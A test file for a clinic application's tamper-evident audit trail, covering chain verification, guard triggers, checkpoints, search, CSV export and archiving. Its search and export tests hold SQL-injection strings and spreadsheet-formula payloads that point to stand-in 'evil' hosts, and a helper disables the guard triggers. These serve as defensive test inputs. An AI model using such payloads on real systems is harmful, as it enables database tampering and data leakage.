// Issue 6 on SQLite and PostgreSQL: the audit chain, the triggers that guard it, verification that names the first
// altered event, checkpoints against truncation, the admin's search, export and jobs, retention and archives,
// and one chain under concurrent writers.
import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { AuditJob, Checkpoint } from '../../src/shared/audit';
import { verifyExportFile } from '../../src/main/core/audit/audit-archive';
import { type NewAuditRow, appendAuditRows, writeAuditEvent } from '../../src/main/core/audit/audit-writer';
import { GENESIS_MAC } from '../../src/main/core/audit/chain';
import { MIGRATION_NAMES, migrationSource } from '../../migrations';
import { startCore } from '../../src/main/core';
import { APP_VERSION } from '../../src/main/core/config';
import { deriveKeys } from '../../src/main/core/crypto/keys';
import { openDatabase } from '../../src/main/core/db/connection';
import { silentLogger } from '../../src/main/core/log';
import { person, registerVerified, signIn } from '../support/accounts';
import { TestMailbox } from '../support/smtp';
import {
  ENGINES,
  type TestCore,
  createPostgresDatabase,
  postgresUrl,
  snapshotDomainTables,
  startTestCore,
} from '../support/test-core';
import { enroll } from '../support/totp';

let mailbox: TestMailbox;
let smtpUrl: string;
beforeAll(async () => {
  mailbox = new TestMailbox();
  smtpUrl = await mailbox.start();
});
afterAll(() => mailbox.stop());

const STAFF_PASSWORD = 'quiet harbour lantern 42';
const YEAR_MS = 365.25 * 24 * 60 * 60_000;

describe.each(ENGINES)('the audit trail on %s', (engine) => {
  const skip = engine === 'postgres' && !postgresUrl();
  let t: TestCore;
  const extra: TestCore[] = [];

  beforeEach(async (ctx) => {
    if (skip) ctx.skip('no PostgreSQL server for this run (see the warning at the start of the run)');
    mailbox.messages.length = 0;
    t = await startTestCore(engine, { smtpUrl });
  });
  afterEach(async () => {
    for (const other of extra.splice(0)) await other.core.close();
    await t?.stop();
  });

  const call = (callerId: string, channel: string, payload: unknown = {}, core = t.core) =>
    core.dispatch(channel, payload, { id: callerId });
  const valueOf = <T>(r: Awaited<ReturnType<typeof call>>) => {
    if (!r.ok) throw new Error(`expected ok, got ${r.error.code} ${JSON.stringify(r.error.fields ?? {})}`);
    return r.value as T;
  };
  const codeOf = (r: Awaited<ReturnType<typeof call>>) => (r.ok ? 'ok' : r.error.code);
  const knex = () => t.core.db.knex;
  const rows = () => knex()('audit_events').orderBy('seq').select();

  async function staff(role: 'admin' | 'doctor', name: string = role, core = t.core): Promise<string> {
    await core.admin.createStaffAccount({
      email: `${name}@clinic.example`,
      firstName: name,
      lastName: 'Staff',
      password: STAFF_PASSWORD,
      role,
    });
    await signIn(core, name, `${name}@clinic.example`, STAFF_PASSWORD);
    await enroll(core, name, t.clock.nowMs());
    return name;
  }

  async function waitForJob(caller: string, job: AuditJob, core = t.core): Promise<AuditJob> {
    for (let i = 0; i < 600; i++) {
      const now = valueOf<AuditJob>(await call(caller, 'audit.job', { id: job.id }, core));
      if (now.state !== 'running') return now;
      await new Promise((r) => setTimeout(r, 50));
    }
    throw new Error('job did not end');
  }

  async function verifyByAdmin(caller: string, checkpoint: string | null = null) {
    const job = valueOf<AuditJob>(await call(caller, 'audit.startVerify', { checkpoint }));
    const done = await waitForJob(caller, job);
    expect(done.state).toBe('done');
    return done.verification!;
  }

  /** Lets the test change rows the way someone with the database file would: the guard triggers off. */
  async function withoutGuards(change: () => Promise<unknown>): Promise<void> {
    if (engine === 'postgres') {
      await knex().raw('ALTER TABLE audit_events DISABLE TRIGGER USER');
      await change();
      await knex().raw('ALTER TABLE audit_events ENABLE TRIGGER USER');
    } else {
      await knex().raw('DROP TRIGGER IF EXISTS audit_events_no_update');
      await knex().raw('DROP TRIGGER IF EXISTS audit_events_no_delete');
      await change();
    }
  }

  it('chains every request, success, failure and denial, with its workstation, and the Verify job finds it intact', async () => {
    const admin = await staff('admin');
    expect(codeOf(await signIn(t.core, 'stranger', 'nobody@example.org', 'wrong password 1234'))).toBe(
      'INVALID_CREDENTIALS',
    );
    expect(codeOf(await call('stranger', 'users.list'))).toBe('NOT_SIGNED_IN');

    const before = await rows();
    expect(before.map((r) => Number(r.seq))).toEqual(before.map((_, i) => i + 1));
    expect(new Set(before.map((r) => r.mac)).size).toBe(before.length);
    expect(before.map((r) => r.outcome)).toEqual(expect.arrayContaining(['success', 'failure', 'denied']));
    expect(before[0]).toMatchObject({ workstation: 'test-host', os_user: 'tester', ip_address: null });

    const verification = await verifyByAdmin(admin);
    expect(verification).toMatchObject({ ok: true, firstBadSeq: null, problem: null, firstSeq: 1 });
    expect(verification.checked).toBeGreaterThanOrEqual(before.length);
    const recorded = await knex()('audit_events').where({ action: 'AUDIT_VERIFIED', outcome: 'success' });
    expect(recorded.length).toBeGreaterThanOrEqual(2); // the request, and the job's end with what it found
    expect(recorded.some((r) => JSON.parse(r.details).checked === verification.checked)).toBe(true);
  });

  it('refuses UPDATE and DELETE of audit events (and TRUNCATE on PostgreSQL); nothing changes', async () => {
    await staff('admin');
    const before = await rows();
    await expect(knex()('audit_events').where({ seq: 1 }).update({ outcome: 'failure' })).rejects.toThrow(
      /audit trail cannot be changed/,
    );
    await expect(knex()('audit_events').where({ seq: 1 }).delete()).rejects.toThrow(/audit trail cannot be changed/);
    await expect(knex()('audit_chain').delete()).rejects.toThrow(/audit trail cannot be changed/);
    if (engine === 'postgres')
      await expect(knex().raw('TRUNCATE audit_events')).rejects.toThrow(/audit trail cannot be changed/);
    expect(await rows()).toEqual(before);
  });

  it('names the first changed, removed and reordered event once someone goes around the triggers', async () => {
    const admin = await staff('admin');
    for (let i = 0; i < 4; i++) await signIn(t.core, `x${i}`, 'nobody@example.org', 'wrong password 1234');
    const all = await rows();
    expect(all.length).toBeGreaterThanOrEqual(8);

    await withoutGuards(() => knex()('audit_events').where({ seq: 4 }).update({ outcome: 'denied' }));
    expect(await verifyByAdmin(admin)).toMatchObject({ ok: false, firstBadSeq: 4, problem: 'changed' });

    // Put it back, then remove event 6.
    await withoutGuards(async () => {
      await knex()('audit_events').where({ seq: 4 }).update({ outcome: all[3].outcome });
      await knex()('audit_events').where({ seq: 6 }).delete();
    });
    expect(await verifyByAdmin(admin)).toMatchObject({ ok: false, firstBadSeq: 6, problem: 'missing' });

    // Put it back, then swap events 2 and 3 (every column but the sequence number).
    await withoutGuards(async () => {
      await knex()('audit_events').insert(all[5]);
      const content = (row: Record<string, unknown>) =>
        Object.fromEntries(Object.entries(row).filter(([k]) => k !== 'seq'));
      await knex()('audit_events').where({ seq: 2 }).update(content(all[2]));
      await knex()('audit_events').where({ seq: 3 }).update(content(all[1]));
    });
    expect(await verifyByAdmin(admin)).toMatchObject({ ok: false, firstBadSeq: 2, problem: 'changed' });
  });

  it('proves with a signed checkpoint that the trail was cut short, and refuses an edited checkpoint', async () => {
    const admin = await staff('admin');
    const { checkpoint, text } = valueOf<{ checkpoint: Checkpoint; text: string }>(
      await call(admin, 'audit.checkpoint'),
    );
    expect(JSON.parse(text)).toEqual(checkpoint);
    expect(await knex()('audit_checkpoints').where({ seq: checkpoint.seq }).first()).toMatchObject({
      mac: checkpoint.mac,
    });
    expect(await verifyByAdmin(admin, text)).toMatchObject({ ok: true, checkpointSeq: checkpoint.seq });

    // Someone removes the newest events and moves the head back: the chain alone still verifies...
    const keep = checkpoint.seq - 3;
    const kept = await knex()('audit_events').where({ seq: keep }).first();
    await withoutGuards(async () => {
      await knex()('audit_events').where('seq', '>', keep).delete();
      await knex()('audit_chain').where({ id: 1 }).update({ last_seq: keep, last_mac: kept.mac });
    });
    const alone = valueOf<AuditJob>(await call(admin, 'audit.startVerify', { checkpoint: null }));
    // (the verify request itself appended events after `keep`; the chain from 1 to the head is whole)
    expect((await waitForJob(admin, alone)).verification).toMatchObject({ ok: true });
    // ...the checkpoint kept elsewhere does not: its event now holds something else.
    expect(await verifyByAdmin(admin, text)).toMatchObject({
      ok: false,
      problem: 'changed',
      firstBadSeq: checkpoint.seq,
    });

    const edited = JSON.stringify({ ...checkpoint, seq: checkpoint.seq + 1 });
    expect(await verifyByAdmin(admin, edited)).toMatchObject({ ok: false, problem: 'checkpoint_invalid' });
    const garbage = await call(admin, 'audit.startVerify', { checkpoint: '=HYPERLINK("x")' });
    expect(garbage).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', fields: { checkpoint: expect.any(String) } },
    });
  });

  it('stores exactly the text its MAC covers, even a lone surrogate or an emoji cut in half', async () => {
    const keys = deriveKeys(t.masterKey);
    const stamp = {
      nowMs: t.clock.nowMs(),
      workstation: 'test-host',
      osUser: 'tester',
      ipAddress: null,
      appVersion: '0.1.0',
      chainKey: keys.auditChain,
    };
    for (const reason of ['unconscious \uD83D', `${'x'.repeat(999)}\u{1F600}`, '\uDE00 alone'])
      await knex().transaction((trx) =>
        writeAuditEvent(trx, stamp, { action: 'BREAK_GLASS', outcome: 'success', resourceType: 'patient', reason }),
      );
    expect(await t.core.admin.verifyAudit(null)).toMatchObject({ ok: true, checked: 3 });
  });

  it('verifies an empty trail', async () => {
    expect(await rows()).toHaveLength(0);
    expect(await t.core.admin.verifyAudit(null)).toMatchObject({
      ok: true,
      checked: 0,
      firstSeq: null,
      lastSeq: null,
      firstBadSeq: null,
    });
  });

  it('finds events by every filter, in pages that fit together, and refuses absurd ranges', async () => {
    const admin = await staff('admin');
    for (let i = 0; i < 7; i++) await signIn(t.core, `x${i}`, 'nobody@example.org', 'wrong password 1234');
    type Page = { events: Array<{ seq: number; action: string; occurredAt: number }>; nextCursor: unknown };
    const search = async (payload: object) => valueOf<Page>(await call(admin, 'audit.search', payload));

    const failed = await search({ filters: { action: 'LOGIN_FAILED' }, limit: 50 });
    expect(failed.events).toHaveLength(7);
    expect(failed.events.every((e) => e.action === 'LOGIN_FAILED')).toBe(true);

    // Pages of 3, newest first, then oldest first: together exactly the whole set, in order.
    for (const sort of ['newest', 'oldest'] as const) {
      const seen: number[] = [];
      let cursor: unknown = null;
      do {
        const page = await search({ filters: { action: 'LOGIN_FAILED' }, sort, cursor, limit: 3 });
        seen.push(...page.events.map((e) => e.seq));
        cursor = page.nextCursor;
      } while (cursor);
      const expected = failed.events.map((e) => e.seq).sort((a, b) => a - b);
      expect(seen).toEqual(sort === 'oldest' ? expected : [...expected].reverse());
    }

    expect(
      (await search({ filters: { actor: 'ADMIN@clinic.example', outcome: 'success' } })).events.length,
    ).toBeGreaterThan(0);
    expect(
      (await search({ filters: { workstation: 'test-host', resourceType: 'user' } })).events.length,
    ).toBeGreaterThan(0);
    const now = t.clock.nowMs();
    expect((await search({ filters: { from: now - 60_000, to: now + 60_000 } })).events.length).toBeGreaterThan(0);
    expect((await search({ filters: { from: now + 60_000 } })).events).toHaveLength(0);

    // SQL in a filter is a value like any other: it matches nothing and changes nothing.
    const tables = await snapshotDomainTables(t.core);
    for (const hostile of ["' OR 1=1 --", "x'); DROP TABLE audit_events; --", '%', '_', '=HYPERLINK("http://evil")']) {
      const page = await search({ filters: { actor: hostile, workstation: hostile, resourceId: hostile } });
      expect(page.events).toHaveLength(0);
      expect((await search({ filters: { patient: hostile } })).events).toHaveLength(0);
    }
    expect(await snapshotDomainTables(t.core)).toEqual(tables);
    expect(Number((await knex()('audit_events').count({ n: '*' }))[0]!.n)).toBeGreaterThan(10);

    const backwards = await call(admin, 'audit.search', { filters: { from: now, to: now - 1 } });
    expect(backwards).toMatchObject({
      ok: false,
      error: { code: 'INVALID_INPUT', fields: { 'filters.to': expect.any(String) } },
    });
    // A refused request is recorded with who sent it.
    const refused = await knex()('audit_events').where({ error_code: 'INVALID_INPUT' }).orderBy('seq', 'desc').first();
    expect(refused).toMatchObject({ actor_email: 'admin@clinic.example', outcome: 'failure', channel: 'audit.search' });
    expect(refused.session_hash).toMatch(/^[0-9a-f]{32}$/);
    for (const absurd of [{ from: -1 }, { to: 1e17 }, { from: 'yesterday' }, { action: 'DROP' }]) {
      expect(codeOf(await call(admin, 'audit.search', { filters: absurd }))).toBe('INVALID_INPUT');
    }
    expect(codeOf(await call(admin, 'audit.stats', { from: 0, to: 4_000_000_000_000 }))).toBe('INVALID_INPUT');
    const stats = valueOf<{ days: Array<{ events: number; failedSignIns: number }>; retentionYears: number }>(
      await call(admin, 'audit.stats', { from: now - 6 * 86_400_000, to: now }),
    );
    expect(stats.days).toHaveLength(7);
    expect(stats.days.at(-1)!.failedSignIns).toBe(7);
    expect(stats.retentionYears).toBe(6);

    const detail = valueOf<{ event: { seq: number }; macValid: boolean }>(
      await call(admin, 'audit.event', { seq: failed.events[0]!.seq }),
    );
    expect(detail).toMatchObject({ event: { seq: failed.events[0]!.seq }, macValid: true });
    expect(codeOf(await call(admin, 'audit.event', { seq: 999_999 }))).toBe('NOT_FOUND');
  });

  it('exports CSV that a spreadsheet cannot run as a formula, records it, and keeps jobs private', async () => {
    const admin = await staff('admin');
    const doctor = await staff('doctor');
    const ada = person('ada');
    await registerVerified(t.core, mailbox, ada);
    const adaId = (await knex()('users').where({ email: ada.email }).first()).id;
    expect(codeOf(await call(doctor, 'patients.setRestricted', { patientId: adaId, restricted: true }))).toBe('ok');
    const reason = '=HYPERLINK("http://evil.example/?"&A1,"Open") chest pain, unconscious in ER';
    expect(codeOf(await call(doctor, 'patients.breakGlass', { patientId: adaId, reason }))).toBe('ok');

    const job = valueOf<AuditJob>(
      await call(admin, 'audit.startExport', { format: 'csv', filters: { patient: ada.email } }),
    );
    const done = await waitForJob(admin, job);
    expect(done).toMatchObject({ state: 'done', file: { events: expect.any(Number) } });
    const csv = fs.readFileSync(done.file!.path, 'utf8');
    expect(done.file!.path.startsWith(path.join(t.dataDir, 'exports'))).toBe(true);
    expect((fs.statSync(done.file!.path).mode & 0o777).toString(8)).toBe('600');
    const lines = csv.trim().split('\r\n');
    expect(lines[0]).toMatch(/^seq,occurred_at_utc,action,outcome,/);
    expect(lines).toHaveLength(done.file!.events + 1);
    const glass = lines.find((l) => l.includes('BREAK_GLASS'))!;
    // The cell starts with an apostrophe: the spreadsheet shows the text and runs nothing.
    expect(glass).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Open"") chest pain, unconscious in ER"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);

    const exported = await knex()('audit_events').where({ action: 'EXPORT', resource_id: job.id });
    expect(exported.map((e) => JSON.parse(e.details).stage).sort()).toEqual(['done', 'started']);

    // Another admin cannot watch or cancel this job.
    const other = await staff('admin', 'other-admin');
    expect(codeOf(await call(other, 'audit.job', { id: job.id }))).toBe('NOT_FOUND');
    expect(codeOf(await call(other, 'audit.cancelJob', { id: job.id }))).toBe('NOT_FOUND');

    const json = await waitForJob(
      admin,
      valueOf<AuditJob>(await call(admin, 'audit.startExport', { format: 'json', filters: {} })),
    );
    const parsed = JSON.parse(fs.readFileSync(json.file!.path, 'utf8'));
    expect(parsed).toMatchObject({
      complete: true,
      count: json.file!.events,
      header: { format: 'healthsphere-audit-export' },
    });
    expect(parsed.events[0]).toMatchObject({ seq: expect.any(Number), mac: expect.stringMatching(/^[0-9a-f]{64}$/) });
  });

  it('cancels an export half-way and leaves no file that looks complete', async () => {
    const admin = await staff('admin');
    const keys = deriveKeys(t.masterKey);
    const event = (i: number): NewAuditRow => ({
      occurred_at: t.clock.nowMs() - 86_400_000 + i,
      action: 'VIEW',
      outcome: 'success',
      channel: 'patients.get',
      actor_user_id: 1,
      actor_email: 'admin@clinic.example',
      actor_role: 'admin',
      session_hash: null,
      workstation: 'test-host',
      os_user: 'tester',
      ip_address: null,
      app_version: '0.1.0',
      resource_type: 'patient',
      resource_id: String(i),
      patient_id: i,
      data_category: 'demographics',
      reason: null,
      error_code: null,
      details: null,
    });
    const count = 60_000;
    for (let i = 0; i < count; i += 10_000)
      await knex().transaction((trx) =>
        appendAuditRows(
          trx,
          keys.auditChain,
          Array.from({ length: 10_000 }, (_, j) => event(i + j)),
        ),
      );

    const job = valueOf<AuditJob>(await call(admin, 'audit.startExport', { format: 'csv', filters: {} }));
    let seen = job;
    while (seen.state === 'running' && seen.processed === 0) {
      await new Promise((r) => setTimeout(r, 10));
      seen = valueOf<AuditJob>(await call(admin, 'audit.job', { id: job.id }));
    }
    const cancelled = valueOf<AuditJob>(await call(admin, 'audit.cancelJob', { id: job.id }));
    expect(cancelled.state).toBe('cancelled');
    expect(cancelled.processed).toBeLessThan(count);
    await new Promise((r) => setTimeout(r, 200));
    expect(fs.readdirSync(path.join(t.dataDir, 'exports'))).toEqual([]);
    expect((await waitForJob(admin, job)).file).toBeNull();
    const ended = await knex()('audit_events').where({ action: 'EXPORT', resource_id: job.id, outcome: 'failure' });
    expect(ended.map((e) => JSON.parse(e.details).stage)).toEqual(['cancelled']);

    // The whole trail, generated events included, still verifies (in parallel ranges at this size).
    expect(await verifyByAdmin(admin)).toMatchObject({ ok: true });
  });

  it('keeps six years at least, and archives only older events, through a verified export', async () => {
    const admin = await staff('admin');
    expect(codeOf(await call(admin, 'settings.updateSecurity', { values: { auditRetentionYears: 5 } }))).toBe(
      'INVALID_INPUT',
    );
    const oldCount = Number((await knex()('audit_events').count({ n: '*' }))[0]!.n);
    const file = path.join(t.dataDir, 'archive.json');

    // Nothing is old enough yet.
    expect(await t.core.admin.archiveAudit({ before: t.clock.nowMs() + 1, file })).toBeNull();
    expect(fs.existsSync(file)).toBe(false);

    t.clock.advance(7 * YEAR_MS);
    await signIn(t.core, 'late', 'nobody@example.org', 'wrong password 1234');
    const archived = await t.core.admin.archiveAudit({ before: t.clock.nowMs(), file });
    expect(archived).toMatchObject({ events: oldCount, throughSeq: oldCount });
    const checked = await verifyExportFile(file, deriveKeys(t.masterKey).auditChain, GENESIS_MAC);
    expect(checked).toMatchObject({ events: oldCount, firstSeq: 1, lastSeq: oldCount });

    const left = await rows();
    expect(Number(left[0]!.seq)).toBe(oldCount + 1);
    expect(left.map((r) => r.action)).toContain('AUDIT_ARCHIVED');
    // A younger event still cannot be deleted.
    await expect(
      knex()('audit_events')
        .where({ seq: oldCount + 1 })
        .delete(),
    ).rejects.toThrow(/audit trail cannot be changed/);
    // The trail verifies from the archive on.
    expect(await t.core.admin.verifyAudit(null)).toMatchObject({ ok: true, firstSeq: oldCount + 1 });
    await expect(t.core.admin.archiveAudit({ before: t.clock.nowMs(), file })).resolves.toBeNull();
  });
});

// SQLite serves one workstation; many workstations share a PostgreSQL server.
describe('two workstations on one PostgreSQL database', () => {
  it('write one chain when they write at once', async (ctx) => {
    if (!postgresUrl()) ctx.skip('no PostgreSQL server for this run');
    const first = await startTestCore('postgres', { smtpUrl });
    const second = await startTestCore('postgres', { smtpUrl, sameDatabaseAs: first, hostname: 'desk-2' });
    try {
      await Promise.all(
        Array.from({ length: 60 }, (_, i) =>
          signIn(i % 2 === 0 ? first.core : second.core, `c${i}`, 'nobody@example.org', 'wrong password 1234'),
        ),
      );
      const all = await first.core.db.knex('audit_events').orderBy('seq').select('seq', 'workstation');
      expect(all).toHaveLength(60);
      expect(all.map((r) => Number(r.seq))).toEqual(all.map((_, i) => i + 1));
      expect(new Set(all.map((r) => r.workstation))).toEqual(new Set(['test-host', 'desk-2']));
      expect(await second.core.admin.verifyAudit(null)).toMatchObject({ ok: true, checked: 60, firstBadSeq: null });
    } finally {
      await second.core.close();
      await first.stop();
    }
  });
});

describe.each(ENGINES)('an install from before the chain, on %s', (engine) => {
  it('seals the events it recorded into the chain at the next start, oldest first', async (ctx) => {
    if (engine === 'postgres' && !postgresUrl()) ctx.skip('no PostgreSQL server for this run');
    const dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'hs-legacy-'));
    const config = {
      dataDir,
      databaseUrl: engine === 'postgres' ? await createPostgresDatabase() : undefined,
      masterKey: randomBytes(32),
      appVersion: APP_VERSION,
    };
    const db = openDatabase(config);
    for (let i = 0; i < MIGRATION_NAMES.indexOf('007_audit_chain'); i++) await db.knex.migrate.up({ migrationSource });
    const old = (n: number) => ({
      occurred_at: 1_700_000_000_000 + n,
      action: 'LOGIN',
      outcome: 'success',
      actor_email: `user${n}@clinic.example`,
      workstation: 'reception@front-desk',
      app_version: '0.0.9',
    });
    await db.knex('audit_events').insert([old(1), old(2), old(3)]);
    await db.knex.destroy();

    const core = await startCore({ config, log: silentLogger, sendMail: false });
    try {
      const sealed = await core.db.knex('audit_events').orderBy('seq').select();
      expect(sealed.map((r) => [Number(r.seq), r.actor_email, r.workstation, r.os_user])).toEqual([
        [1, 'user1@clinic.example', 'front-desk', 'reception'],
        [2, 'user2@clinic.example', 'front-desk', 'reception'],
        [3, 'user3@clinic.example', 'front-desk', 'reception'],
      ]);
      expect(await core.db.knex.schema.hasTable('audit_events_unsealed')).toBe(false);
      expect(await core.admin.verifyAudit(null)).toMatchObject({ ok: true, checked: 3 });
    } finally {
      await core.close();
      fs.rmSync(dataDir, { recursive: true, force: true });
    }
  });
});
